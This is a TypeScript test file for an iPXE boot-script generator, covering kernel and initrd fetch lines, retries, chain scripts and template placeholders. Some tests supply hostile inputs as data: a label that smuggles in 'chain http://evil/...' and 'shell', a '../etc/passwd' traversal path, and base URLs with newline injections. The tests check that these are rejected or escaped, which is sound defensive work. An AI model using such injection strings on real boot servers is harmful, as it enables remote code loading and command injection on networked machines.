import test from 'ava';
import {
  artifactUrl,
  ipxeSafeText,
  renderChainScript,
  renderErrorScript,
  renderMachineScript,
  renderTemplate,
  scriptValues,
  ScriptTemplateError,
  ScriptValueError,
  DOWNLOAD_ATTEMPTS,
} from '../../lib/ipxe-script.ts';
import { CmdlineError, RunmodeError } from '../../lib/cmdline.ts';
import type { Profile } from '../../boot/selection.ts';

const zos: Profile = {
  name: 'zos',
  kernel: 'images/zos/vmlinuz',
  initrd: ['images/zos/initramfs.img', 'images/zos/extra.cpio'],
  args: {},
  cmdline: 'console=ttyS0',
};
const args = { nomodeset: null, version: 'v3', runmode: 'test', panic: 7200, farmer_id: 12 };
const input = { profile: zos, args, base: 'http://10.77.0.1:8080/', mac: '52:54:00:AB:CD:01', group: 'rack1', reason: 'group rack1' };

/** Lines that iPXE executes (not comments). */
const commands = (script: string) => script.split('\n').filter((l) => l !== '' && !l.startsWith('#'));

test('the machine script starts with #!ipxe and boots kernel and initrds with the command line', (t) => {
  const s = renderMachineScript(input);
  t.true(s.startsWith('#!ipxe\n'));
  const kernel = commands(s).find((l) => l.startsWith('imgfetch --name kernel '))!;
  t.is(
    kernel,
    'imgfetch --name kernel http://10.77.0.1:8080/images/zos/vmlinuz?mac=52-54-00-ab-cd-01 nomodeset version=v3 runmode=test panic=7200 farmer_id=12 console=ttyS0 BOOTIF=01-52-54-00-ab-cd-01 initrd=initrd0 initrd=initrd1 && goto kernel_ok || echo zeroboot: kernel attempt 1 failed, retrying && sleep 3',
  );
  t.true(s.includes('initrd --name initrd0 http://10.77.0.1:8080/images/zos/initramfs.img?mac=52-54-00-ab-cd-01 && goto initrd0_ok'));
  t.true(s.includes('initrd --name initrd1 http://10.77.0.1:8080/images/zos/extra.cpio?mac=52-54-00-ab-cd-01 && goto initrd1_ok'));
  t.true(commands(s).includes('boot || goto exec_failed'));
});

test('every download is tried three times, then a distinct message; boot failure has its own', (t) => {
  const s = renderMachineScript(input);
  t.is(DOWNLOAD_ATTEMPTS, 3);
  t.is(commands(s).filter((l) => l.startsWith('imgfetch --name kernel ')).length, 3);
  // A kernel the firmware will not run is an exec failure, not a download to retry.
  t.is(commands(s).filter((l) => l === 'imgselect kernel || goto exec_failed').length, 1);
  t.is(commands(s).filter((l) => l.startsWith('initrd --name initrd0 ')).length, 3);
  t.regex(s, /kernel download failed && goto download_failed/);
  t.regex(s, /echo zeroboot: download failed/);
  t.regex(s, /echo zeroboot: exec failed/);
  t.regex(s, /sleep 30\nreboot\n$/);
  // Every goto has its label.
  for (const m of s.matchAll(/goto ([a-z0-9_]+)/g)) t.true(s.includes(`\n:${m[1]}\n`), m[1]);
});

test('the chain script reports the booted interface and the labels selection uses', (t) => {
  const s = renderChainScript('http://10.77.0.1:8080');
  t.true(s.startsWith('#!ipxe\n'));
  t.true(
    s.includes(
      'chain --replace --autofree http://10.77.0.1:8080/ipxe?mac=${netX/mac:hexhyp}&uuid=${uuid}&serial=${serial:uristring}&arch=${buildarch}&platform=${platform}&hostname=${hostname:uristring}',
    ),
  );
  t.is(commands(s).filter((l) => l.startsWith('chain ')).length, 3);
  t.regex(s, /dhcp net0 && goto online \|\| dhcp net0 && goto online \|\| dhcp net0 && goto online \|\| echo zeroboot: DHCP failed on net0/);
  t.regex(s, /isset \$\{net7\/mac\} \|\| goto dhcp_failed/);
  for (const msg of ['no network interface found', 'DHCP failed on every interface', 'download failed']) t.true(s.includes(`echo zeroboot: ${msg}`), msg);
  for (const m of s.matchAll(/goto ([a-z0-9_]+)/g)) t.true(s.includes(`\n:${m[1]}\n`), m[1]);
});

test('a bad base URL is refused before it reaches a script', (t) => {
  for (const bad of ['ftp://x', 'http://a b', 'http://x/${y}', 'http://x/\nreboot', 'x']) {
    t.throws(() => renderChainScript(bad), { instanceOf: ScriptValueError }, bad);
  }
});

test('a label sent by the machine cannot add commands to the error script', (t) => {
  const hostile = 'host\nreboot && chain http://evil/${x} || shell #';
  const s = renderErrorScript(`no group or machine entry selects a profile for hostname=${hostile}`);
  t.true(s.startsWith('#!ipxe\n'));
  for (const line of commands(s)) t.regex(line, /^(echo zeroboot: [^$&|{}#\n]*|:reboot|sleep 30|reboot)$/, line);
  t.true(s.includes('no group or machine entry selects a profile for'));
});

test('ipxeSafeText leaves plain text and replaces what iPXE would interpret', (t) => {
  t.is(ipxeSafeText('profile zos, group rack1 (mac 52:54:00:00:00:01)'), 'profile zos, group rack1 (mac 52:54:00:00:00:01)');
  t.is(ipxeSafeText('a${b}&&c||d\ne#"f\''), 'a??b???c??d?e??f?');
});

test('store paths become MAC-tagged URLs, odd characters percent-encoded', (t) => {
  t.is(artifactUrl('http://h:1', 'images/a b/vmlinuz', '52:54:00:00:00:01'), 'http://h:1/images/a%20b/vmlinuz?mac=52-54-00-00-00-01');
  t.throws(() => artifactUrl('http://h:1', '../etc/passwd', '52:54:00:00:00:01'), { instanceOf: ScriptValueError });
  t.throws(() => artifactUrl('http://h:1', 'x', 'not-a-mac'), { instanceOf: ScriptValueError });
  // A "$" in a file name is encoded, so iPXE never expands it.
  t.is(artifactUrl('http://h:1', 'a$b', '52:54:00:00:00:01'), 'http://h:1/a%24b?mac=52-54-00-00-00-01');
});

test('a profile template gets its placeholders filled', (t) => {
  const profile: Profile = {
    ...zos,
    script: '#!ipxe\nkernel {{kernel}} {{ cmdline }} initrd=a\ninitrd --name a {{initrd}}\ninitrd --name b {{initrd1}}\necho {{mac}} from {{base}}\nboot\n',
  };
  const s = renderMachineScript({ ...input, profile });
  t.is(
    s,
    '#!ipxe\nkernel http://10.77.0.1:8080/images/zos/vmlinuz?mac=52-54-00-ab-cd-01 nomodeset version=v3 runmode=test panic=7200 farmer_id=12 console=ttyS0 initrd=a\n' +
      'initrd --name a http://10.77.0.1:8080/images/zos/initramfs.img?mac=52-54-00-ab-cd-01\n' +
      'initrd --name b http://10.77.0.1:8080/images/zos/extra.cpio?mac=52-54-00-ab-cd-01\n' +
      'echo 52:54:00:ab:cd:01 from http://10.77.0.1:8080\nboot\n',
  );
});

test('template errors name the profile and the problem', (t) => {
  const v = scriptValues(input);
  t.throws(() => renderTemplate('kernel {{kernel}}', v, 'p1'), { instanceOf: ScriptTemplateError, message: /p1.*must start with "#!ipxe"/ });
  t.throws(() => renderTemplate('#!ipxe\n{{ nope }}', v, 'p1'), { instanceOf: ScriptTemplateError, message: /unknown placeholder \{\{nope\}\}/ });
  t.throws(() => renderTemplate('#!ipxe\n{{initrd5}}', v, 'p1'), { instanceOf: ScriptTemplateError, message: /has 2 initrd/ });
});

test('bad kernel arguments surface as typed errors, not as a broken script', (t) => {
  t.throws(() => renderMachineScript({ ...input, args: { runmode: 'staging' } }), { instanceOf: RunmodeError });
  t.throws(() => renderMachineScript({ ...input, args: { x: 'a b' } }), { instanceOf: CmdlineError });
});

test('a profile without initrds boots the kernel alone', (t) => {
  const s = renderMachineScript({ ...input, profile: { ...zos, initrd: [], cmdline: undefined }, args: { runmode: 'prod' } });
  t.regex(s, /^imgfetch --name kernel \S+ runmode=prod BOOTIF=01-52-54-00-ab-cd-01 && goto kernel_ok/m);
  t.false(s.includes('initrd'));
});

test('the kernel line names the booted NIC with BOOTIF unless the profile already does', (t) => {
  t.regex(renderMachineScript(input), / BOOTIF=01-52-54-00-ab-cd-01 initrd=initrd0 /);
  const own = renderMachineScript({ ...input, profile: { ...zos, cmdline: 'BOOTIF=01-02-00-00-00-00-01' } });
  t.is(own.match(/BOOTIF=/g)?.length, 3, 'one per kernel attempt, the profile\'s own');
  t.false(own.includes('BOOTIF=01-52-54'));
});
